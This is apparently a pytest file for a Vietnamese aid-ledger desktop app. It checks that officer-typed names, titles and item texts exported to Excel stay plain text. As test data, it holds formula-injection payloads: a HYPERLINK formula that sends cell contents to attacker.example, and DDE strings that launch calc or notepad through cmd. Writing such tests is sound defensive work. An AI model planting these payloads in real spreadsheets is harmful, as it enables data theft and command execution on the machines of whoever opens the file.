"""No user text ever becomes a formula in an Excel file the app writes.

Supporters, titles, villages and item names typed by the officer, and a commune's name and records from a
bundle, are written into ``help export-xlsx``, the template and the province's summary workbook. Each is
opened again: no cell is a formula, every hostile text is there exactly as typed, as text.
"""

from __future__ import annotations

import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from ntm_desktop.cli.main import main
from ntm_desktop.export.xlsx.cells import FORMULA_STARTS, MAX_CELL_TEXT, append, put
from ntm_desktop.services.ledger import HelpDraft, ItemDraft
from ntm_desktop.workspace import Workspace
from tests.helpers.receiver import paired, profile
from tests.helpers.sync import commune, receiver, supporter

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A2&B2,"Xem chi tiết")'
HOSTILE = (
    LEAK,
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def no_formula_cell(path: Path) -> list[str]:
    """Every cell value of every sheet, after checking that none is a formula (in openpyxl and the XML)."""
    book = openpyxl.load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    return texts


def run(*argv: str) -> int:
    return main(list(argv))


def hostile_ledger(ws: Workspace) -> None:
    supporters = [supporter(ws, name) for name in HOSTILE[:3]]
    ws.help.add(
        HelpDraft(
            date(2025, 3, 8),
            HOSTILE[3],
            tuple(supporters),
            (
                ItemDraft("goods", Decimal(5), HOSTILE[4], HOSTILE[5], value_vnd=1_000_000),
                ItemDraft("cash", Decimal(2_000_000), "đồng", value_vnd=2_000_000),
            ),
            description=HOSTILE[6],
            village="=1+1",
        )
    )


def test_help_export_and_template_keep_every_text_as_text(ws: Workspace, tmp_path: Path) -> None:
    hostile_ledger(ws)
    db = str(ws.path)
    ws.close()
    ledger, template = tmp_path / "so-ho-tro.xlsx", tmp_path / "mau.xlsx"
    assert run("help", "export-xlsx", "--db", db, str(ledger)) == 0
    assert run("help", "template", "--db", db, str(template)) == 0
    texts = no_formula_cell(ledger)
    for hostile in (*HOSTILE, "=1+1"):
        assert hostile.strip() in {t.strip() for t in texts} or any(hostile in t for t in texts), hostile
    assert any(LEAK in t for t in no_formula_cell(template))  # the guide's list of known supporters

    book = openpyxl.load_workbook(ledger)
    title = next(c for row in book.worksheets[0].iter_rows() for c in row if c.value == "-2+3")
    assert title.data_type == "s" and title.quotePrefix  # stays text when edited in Excel


def test_the_province_workbook_keeps_a_communes_hostile_name_as_text(tmp_path: Path) -> None:
    name = "=cmd|' /C calc'!A0"
    c = commune(tmp_path, "c", profile("01234", name))
    r = receiver(tmp_path, "r")
    paired(c, r)
    hostile_ledger(c)
    usb = tmp_path / "usb"
    usb.mkdir()
    [outcome] = r.sync.import_bundles([c.sync.export(usb).path]).outcomes
    assert outcome.status == "imported", outcome.message
    db = str(r.path)
    r.close()
    c.close()
    out = tmp_path / "tong-hop.xlsx"
    assert run("receiver", "export-xlsx", "--db", db, "--year", "2025", str(out)) == 0
    texts = no_formula_cell(out)
    assert name in texts and any(LEAK in t for t in texts)


@pytest.mark.parametrize("hostile", [*HOSTILE, "ok\x00\x07text\ud800", "x" * 40_000])
def test_the_writer_helper_keeps_text_and_drops_what_xml_cannot_hold(tmp_path: Path, hostile: str) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    put(sheet, 1, 1, hostile)
    append(sheet, ["Tên", hostile, 5, None])
    path = tmp_path / "x.xlsx"
    book.save(path)
    [a1, *_], row = list(openpyxl.load_workbook(path).active.iter_rows(max_row=2))  # type: ignore[union-attr]
    expected = hostile.replace("\x00", "").replace("\x07", "").replace("\ud800", "")
    if len(expected) > MAX_CELL_TEXT:
        expected = expected[: MAX_CELL_TEXT - 1] + "…"
    assert a1.value == expected and a1.data_type == "s"
    assert a1.quotePrefix == hostile.startswith(FORMULA_STARTS)
    assert [c.value for c in row][:3] == ["Tên", expected, 5]


def test_every_workbook_writer_goes_through_the_cells_helper() -> None:
    """A module that writes workbooks sets no cell value itself: it calls ``cells.put``/``cells.append``."""
    import re

    import ntm_desktop

    package = Path(ntm_desktop.__file__).parent
    raw_write = re.compile(r"\w+\.append\(|\.cell\([^)]*value=|\.value\s*=(?!=)|sheet\[[^\]]*\]\s*=(?!=)")
    offenders = []
    for path in sorted(package.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text or path.name in ("cells.py", "reader.py"):
            continue
        offenders += [f"{path.name}: {m.group(0)}" for m in raw_write.finditer(text)]
    assert not [o for o in offenders if ".append(" not in o or "sheet.append(" in o], offenders
